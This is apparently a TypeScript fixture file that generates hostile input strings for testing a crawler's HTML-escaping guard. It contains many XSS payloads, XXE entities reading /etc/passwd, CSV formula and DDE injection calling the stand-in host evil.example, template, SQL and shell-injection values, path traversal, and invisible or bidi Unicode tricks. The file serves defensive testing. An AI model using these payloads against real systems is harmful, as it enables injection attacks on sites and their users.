/**
 * What a crawled page may hold to harm the site or its readers: every string here is data, and must reach the reader as
 * the letters it is. Markup carries the attribute `hostile`, code calls `hostileRan`, addresses lead to `evil.example`:
 * by these the guard (guard.ts) tells what came from text.
 */
export interface HostileString {
  readonly family: string;
  readonly text: string;
}

const CALL = 'hostileRan(1)';
const HOST = '//evil.example';

/** Ends of whatever the text may stand in, put before markup. */
const BREAKOUTS = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '`>',
  '" ',
  '</title>',
  '</h1>',
  '</p></article></main>',
  '</a>',
  '</textarea>',
  '</script>',
  '</style>',
  '</noscript>',
  '</template>',
  '</svg>',
  '-->',
  '--!>',
  ']]>',
  '?>',
  '*/',
  '\\"',
  "\\');",
  '&quot;>',
  '\u0000">',
  '\n\n',
  '<!--',
  '<x y="',
  '<![CDATA[',
];

/** Markup that runs by itself wherever it is taken for markup. */
const RUNNING = [
  `<script hostile>${CALL}</script>`,
  `<SCRIPT hostile type="module">${CALL}</SCRIPT >`,
  `<script hostile src=${HOST}/a.js></script>`,
  `<script/hostile/src="data:text/javascript,${CALL}"></script>`,
  `<img hostile src=x onerror=${CALL}>`,
  `<img/hostile/src="x"/onerror='${CALL}'>`,
  `<ImG hostile src=${HOST}/a.png OnErRoR=${CALL}>`,
  `<svg hostile onload=${CALL}>`,
  `<svg hostile><script>${CALL}</script></svg>`,
  `<svg hostile><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<body hostile onload=${CALL}>`,
  `<input hostile autofocus onfocus=${CALL}>`,
  `<details hostile open ontoggle=${CALL}>`,
  `<video hostile><source onerror=${CALL} src=x></video>`,
  `<audio hostile src=x onerror=${CALL}></audio>`,
  `<iframe hostile srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe hostile src="javascript:parent.${CALL}"></iframe>`,
  `<object hostile data="javascript:${CALL}"></object>`,
  `<embed hostile src="javascript:${CALL}">`,
  `<style hostile>@import '${HOST}/a.css';</style>`,
  `<style hostile>*{background:url(${HOST}/b.png)}</style>`,
  `<link hostile rel=stylesheet href=${HOST}/c.css>`,
  `<meta hostile http-equiv=refresh content="0;url=${HOST}/">`,
  `<base hostile href=${HOST}/>`,
  `<form hostile action=${HOST}/><input name=q></form>`,
  `<a hostile href="javascript:${CALL}">đây</a>`,
  `<math hostile><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<noscript><p hostile title="</noscript><img src=x onerror=${CALL}>">`,
];

/** Schemes that are code, however they are hidden. */
const CODE_ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `java&#115;cript:${CALL}`,
  `javascript&colon;${CALL}`,
  `javascript://evil.example/%0a${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script hostile>${CALL}</script>`,
  'data:text/html;base64,PHNjcmlwdD5ob3N0aWxlUmFuKDEpPC9zY3JpcHQ+',
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
  `blob:https:${HOST}/1`,
  `${HOST}/a`,
  `\\\\evil.example\\a`,
  `https:${HOST}/"onmouseover="${CALL}`,
];

/** Ways in which text is taken for a link: `@` stands for the address. */
const LINK_FORMS = [
  '@',
  '<@>',
  '[đây](@)',
  '[đây](<@> "tên")',
  '![ảnh](@)',
  '[đây][1]\n\n[1]: @',
  '<a hostile href="@">đây</a>',
  "<a hostile href='@' target=_blank>đây</a>",
  '<img hostile src="@">',
  '<svg><a hostile xlink:href="@"><text>đây</text></a></svg>',
  '<form hostile><button formaction="@">đây</button></form>',
];

const EVENTS =
  'abort animationend animationstart auxclick beforecopy beforeinput beforetoggle blur cancel canplay change click close contextmenu copy cut dblclick drag drop error focus focusin gotpointercapture input invalid keydown keyup load loadstart message mousedown mouseenter mousemove mouseover mouseup paste pointerdown pointerenter pointermove pointerover pointerup popstate reset resize scroll scrollend securitypolicyviolation select slotchange submit toggle touchstart transitionend transitionrun unload wheel'.split(
    ' ',
  );

const BROKEN_TAGS = [
  '<', '>', '<<', '<>', '</', '</>', '<!', '<!-', '<!--', '<!-->', '<!--->', '<?', '<?php', '<%', '< script>', '<p', '<p hostile', '<a hostile href=', '<a hostile href="',
  "<img hostile src='", '<img hostile src="x" onerror="', '<table><tr><td hostile>', '</td></tr></table>', '</div></div></div></div>', '</body></html>', '<plaintext hostile>', '<xmp hostile>', '<listing hostile>', '<textarea hostile>', '<title hostile>',
  '<select hostile><option>', '<frameset hostile><frame>', '<template hostile>', '<b hostile><i><b><i>', '<p hostile><p hostile><p hostile>', '<html hostile>', '<head hostile>', '<body hostile>', '<h1 hostile>', '&', '&lt;', '&lt;script hostile&gt;', '&#60;script&#62;', '&amp;lt;', '&#x3c;', '&#0;', '&notanentity;', '&#xfffffff;',
]; // prettier-ignore

const YAML_BREAKERS = [
  '---', '---js', '---\ntitle: x\n---', '...', '%YAML 1.2', '- a', '? a', ': a', 'a: b', 'a: b: c', '# ghi chú', 'a #b', '&a b', '*a', '<<: *a', '!!js/function "function(){hostileRan(1)}"', '!!binary aGk=', '!<tag:x>', '{a: b}', '{', '}', '[', ']', '[a, b]', '|', '>', '|-\n  a', '>-\n  a', '"', "'", '"a', "'a", '\\', '\\n', '\\u0000', '\\"', '"\nbad: true\n"', '@a', '`a', ',', 'null', '~', 'true', 'no', '0x1f', '1e5', '012', '.inf', '2020-05-28', '12:30:45', '=', 'y', '\t', 'a\tb', ' a ', 'title: "', 'raw: { file: "x" }', 'aliases: ["../.."]',
]; // prettier-ignore

const MARKDOWN_BREAKERS = [
  '# a', '## a', '#', 'a\n===', 'a\n---', '***', '___', '* * *', '> a', '>', '- a', '+ a', '* a', '1. a', '1) a', '    mã', '```', '```js\nhostileRan(1)\n```', '~~~', '`mã`', '*a*', '**a**', '_a_', '__a__', '***a***', '~~a~~', '==a==', '[ ] a', '[a]', '[a]: b', '[a][b]', '[^1]', '[^1]: a', '![', '](', '\\', '\\*', '\\\n', 'a  \nb', '| a | b |\n|---|---|', '<https://evil.example>', 'https://evil.example/a_b_c', 'www.evil.example', 'a@evil.example', ':a:', '$a$', '$$a$$', '^a^', '{.hostile}', '{#noi-dung}', '{% raw %}', ':::note', '<details>', '&nbsp;', '++a++', '-- --- ...', '::: {onclick=hostileRan(1)}', '[//]: # (a)', '<!-- a -->', 'a<br>b',
]; // prettier-ignore

const XML_BREAKERS = [
  ']]>', '<![CDATA[a]]>', ']]]]><![CDATA[>', '<?xml version="1.0"?>', '<?xml-stylesheet href="//evil.example/a.xsl"?>', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;', '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]>&c;', '<xi:include href="//evil.example/"/>', '<feed hostile xmlns="http://www.w3.org/2005/Atom">', '</feed>', '</entry>', '</url></urlset>', '</ShortName>', '<content hostile type="xhtml">', '&b;', '&#x1;', '&#xD800;', '--', '<!-- -- -->', '<a b=c/>', '<a xmlns:b="c" b:onload="hostileRan(1)"/>', '<script hostile xmlns="http://www.w3.org/1999/xhtml">hostileRan(1)</script>',
]; // prettier-ignore

const JSON_BREAKERS = [
  '</script>', '</SCRIPT >', '</script\n>', '</script><script hostile>hostileRan(1)</script>', '<!--<script>', '<!--<script hostile>hostileRan(1)</script>', '\\u003c/script\\u003e', '"}', '"}]}', '"},{"@type":"Person","name":"', '","url":"javascript:hostileRan(1)', '\\', '\\\\"', '\\u0022', "'-hostileRan(1)-'", '"-hostileRan(1)-"', '";hostileRan(1);//', "';hostileRan(1);//", '*/hostileRan(1)/*', '//', '/*', '{"@context":"//evil.example/"}', 'a\u2028b', 'a\u2029b', '\u2028hostileRan(1)', '__proto__', '{"__proto__":{"a":1}}', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', 'then',
]; // prettier-ignore

const CSV_BREAKERS = [
  "=cmd|' /C calc'!A0", '=1+1', '+1+1', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', '=HYPERLINK("//evil.example/?"&A1,"đây")', '=IMPORTXML("//evil.example/","//a")', '"=1+1"', '";=1+1;"', '",=1+1,"', 'a,b', 'a;b', 'a\nb', 'a\r\nb', '"a""b', '＝1+1', '=WEBSERVICE("//evil.example/")', '%0A=1+1', "'=1+1",
]; // prettier-ignore

const SVG_BREAKERS = [
  '<svg hostile><use href="data:image/svg+xml,<svg id=a onload=hostileRan(1)>#a"/></svg>', '<svg hostile><foreignObject><iframe srcdoc="<script>parent.hostileRan(1)</script>"></iframe></foreignObject></svg>', '<svg hostile><set attributeName=onload to=hostileRan(1) />', '<svg hostile><a><animate attributeName=href values="javascript:hostileRan(1)"/><text y=20>đây</text></a></svg>', '<svg hostile><image href=//evil.example/a.png></svg>', '<svg hostile><style>@import"//evil.example/a.css"</style></svg>', '<svg hostile><title><img src=x onerror=hostileRan(1)></title></svg>', '<svg hostile><desc><script>hostileRan(1)</script></desc></svg>', '</text><script hostile>hostileRan(1)</script>', '</title><image hostile href="x" onerror="hostileRan(1)"/>', 'url(//evil.example/a)', 'expression(hostileRan(1))', '" transform="translate(9e9)', '<svg hostile><handler type="text/javascript">hostileRan(1)</handler></svg>',
]; // prettier-ignore

/** Marks that turn the order of letters round, or are not seen at all. */
const TURNING = [
  '\u202a',
  '\u202b',
  '\u202c',
  '\u202d',
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
  '\u200e',
  '\u200f',
  '\u061c',
];
const UNSEEN = [
  '\u0000',
  '\u0001',
  '\u0008',
  '\u000b',
  '\u000c',
  '\u001b[31m',
  '\u007f',
  '\u0085',
  '\u00ad',
  '\u034f',
  '\u115f',
  '\u180e',
  '\u200b',
  '\u200c',
  '\u200d',
  '\u2028',
  '\u2029',
  '\u2060',
  '\u3164',
  '\ufe0f',
  '\ufeff',
  '\ufff9',
  '\ufffc',
  '\ufffd',
  '\ufffe',
  '\uffff',
  '\u{e0001}\u{e0041}',
  '\u{1f468}\u200d\u{1f469}',
  '\u{10ffff}',
  '\ue000',
];
const HALVES = [
  '\ud800',
  '\udbff',
  '\udc00',
  '\udfff',
  '\udc00\ud800',
  '\ud83d',
  'a\ud83d',
  '\ude00a',
  '\ud83d\ud83d\ude00',
  '"\ud800',
  '<\ud800script>',
  '\\\ud800',
  '%\ud800',
  '\ud800\u0301',
  '&#xd800;\ud800',
];

const TEMPLATES = [
  '{{7*7}}', "{{constructor.constructor('hostileRan(1)')()}}", '${hostileRan(1)}', '`${hostileRan(1)}`', '<%= hostileRan(1) %>', '#{hostileRan(1)}', '[[${hostileRan(1)}]]', '{%import os%}', '{{{a}}}', '{count}', '{query}', '{title}', '{0}', '%s', '%d%n', '$1', '$&', "$'", '$`', '$$', '$<a>', '@@content-security-policy@@', '<!--$-->', '<!--$?--><template id="B:0"></template>', '<div hidden id="S:0">', '<template id="P:1">', 'self.__next_f.push([1,"a"])', '__next_f', '__NEXT_DATA__', 'globalThis["TURBOPACK"]', '/_next/static/a.js', '$L1', '$undefined', '$Sreact.fragment', 'I[1,[],"default"]', '0:{"P":null}', 'data-keep', '<script hostile data-keep="">hostileRan(1)</script>', '<script hostile type="application/json" data-keep="" id="ban-ghi-tho">{}</script>', '<a hostile data-moved-to="khong-co">a</a>', '<p id="noi-dung" hostile>a</p>', '<div hostile data-raw-view>', '<form hostile name=body><input name=children></form>', '<img hostile name=getElementById>',
]; // prettier-ignore

const PATHS = [
  '..', '../', '../../etc/passwd', '..\\..\\a', '..%2f..%2f', '%2e%2e%2f', '%00', '%', '%%', '%E0%A4%A', '%u0041', '/', '//', '\\', 'C:\\a', 'file:///etc/passwd', 'CON', 'nul.txt', 'a.txt\u0000.md', '.', '.hidden', '~', '$HOME', '$(touch a)', '`touch a`', '; touch a', '| touch a', '&& touch a', '-rf', '--out=/', '*', '?', 'a?b#c', '#d1', '?bai=a', 'khong-co', 'Không có', 'theo chữ', 'trang 2', 'index.html', '_next', 'search', '404', 'manifest.json', 'null', 'undefined', 'NaN', 'true', '-1', '0', '1e999', '[object Object]', "' OR 1=1 --", '"; DROP TABLE a; --', '(|(a=*))', '(((((((((((a', '[a-', '(?<=a', '(a+)+$', '\\p{', '\\u{110000}', '\\', '()',
]; // prettier-ignore

const LONG = 10_000;
const LONG_WORDS = [
  'a',
  'ẫ',
  'W',
  '<',
  '"',
  '&amp;',
  '<b hostile>',
  '(',
  '`',
  '*',
  '\\',
  '%',
  'ﷺ',
  'א',
  '\u{1f468}\u200d',
  '\u0301',
  '\u202e',
  '0',
  '/',
  'a-',
];

const spread = (family: string, texts: readonly string[]): HostileString[] => texts.map((text) => ({ family, text }));

function allStrings(): HostileString[] {
  return [
    ...spread('broken out', BREAKOUTS.flatMap((end) => RUNNING.map((markup) => end + markup))),
    ...spread('links', CODE_ADDRESSES.flatMap((address) => LINK_FORMS.map((form) => form.replace('@', () => address)))),
    ...spread('event handlers', EVENTS.flatMap((event) => [`<p hostile on${event}=${CALL}>đây</p>`, `" on${event}="${CALL}`])),
    ...spread('broken tags', BROKEN_TAGS),
    ...spread('yaml', YAML_BREAKERS),
    ...spread('markdown', MARKDOWN_BREAKERS),
    ...spread('xml', XML_BREAKERS),
    ...spread('json', JSON_BREAKERS),
    ...spread('csv', CSV_BREAKERS),
    ...spread('svg', SVG_BREAKERS),
    ...spread('turning marks', TURNING.flatMap((mark) => [mark, `${mark}abc`, `abc${mark}`, `Hà ${mark}Nội (2020) <b hostile>`])),
    ...spread('unseen', UNSEEN.flatMap((mark) => [mark, `Đại${mark}hội`, `<scr${mark}ipt hostile>${CALL}</script>`])),
    ...spread('halves of pairs', HALVES.flatMap((half) => [half, `Đại hội ${half} Đảng`])),
    ...spread('templates and framework', TEMPLATES),
    ...spread('paths and programs', PATHS),
    ...spread('long words', LONG_WORDS.map((piece) => piece.repeat(Math.ceil(LONG / piece.length)).slice(0, LONG))),
  ]; // prettier-ignore
}

/** Each text once, in a fixed order. */
export const HOSTILE_STRINGS: readonly HostileString[] = [
  ...new Map(allStrings().map((row) => [row.text, row])).values(),
];
